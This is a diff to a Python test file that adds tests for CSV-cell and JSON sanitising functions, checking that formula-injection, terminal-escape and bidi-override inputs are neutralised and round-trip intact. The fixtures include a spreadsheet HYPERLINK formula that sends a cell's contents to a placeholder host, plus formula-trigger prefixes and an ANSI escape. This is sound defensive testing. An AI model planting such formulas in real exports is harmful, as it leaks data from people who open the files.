@@ -1,6 +1,10 @@
-import pytest
+import json
 
-from msc_edge.text import many, one_line, percent, size, strict_json, valid_text
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from msc_edge.text import csv_cell, csv_text, harmless_json, many, one_line, percent, size, strict_json, valid_text
 
 
 @pytest.mark.parametrize(
@@ -34,6 +38,55 @@ def test_only_bytes_that_are_not_text_become_escapes(text, expected):
     assert valid_text(text) == expected
     assert valid_text(valid_text(text)) == valid_text(text)
     valid_text(text).encode()
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("good/1.png", "good/1.png"),
+        ("a=b, -1 + 'c'", "a=b, -1 + 'c'"),
+        ("'quoted'.png", "'quoted'.png"),
+        ("全角　空白.png", "全角　空白.png"),
+        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
+        ("+1", "'+1"),
+        ("-1.png", "'-1.png"),
+        ("@x", "'@x"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
+        ("＝1", "'＝1"),
+        ("'=1", "''=1"),
+        ("''-1", "'" + "''-1"),
+        ('"x"', r"""'"\"x\"" """.strip()),
+        ("'\"x", r"""'"'\"x" """.strip()),
+        ("\x1b[2J", r"""'"\u001b[2J" """.strip()),
+        ("a\x9b\u202e\x00.png", r"""'"a\u009b\u202e\u0000.png" """.strip()),
+    ],
+)
+def test_a_csv_cell_is_harmless_and_gives_its_text_back(text, cell):
+    assert csv_cell(text) == cell
+    assert csv_text(cell) == text
+
+
+@given(st.text(st.sampled_from("'\"=+-@\t\r\n\x1b\x9b\u202e\\＝ax")) | st.text())
+def test_any_text_comes_back_from_its_csv_cell(text):
+    cell = csv_cell(text)
+    assert csv_text(cell) == text
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
+    assert not any(character in cell for character in "\x1b\x9b\u202e")
+
+
+@pytest.mark.parametrize("cell", ["'\"", "'\"a", '\'"a" b', '\'"\\x"'])
+def test_a_cell_that_was_edited_is_refused(cell):
+    with pytest.raises(ValueError, match=r".+"):
+        csv_text(cell)
+
+
+@pytest.mark.parametrize("value", ["\x7f\x85\u2028\u202e", {"a\x9b": ["\x1b", "ü 🙂"]}])
+def test_harmless_json_is_the_same_value(value):
+    text = harmless_json(json.dumps(value, ensure_ascii=False, indent=2))
+    assert json.loads(text) == value
+    assert text.replace("\n", "").isprintable()
 
 
 @pytest.mark.parametrize(
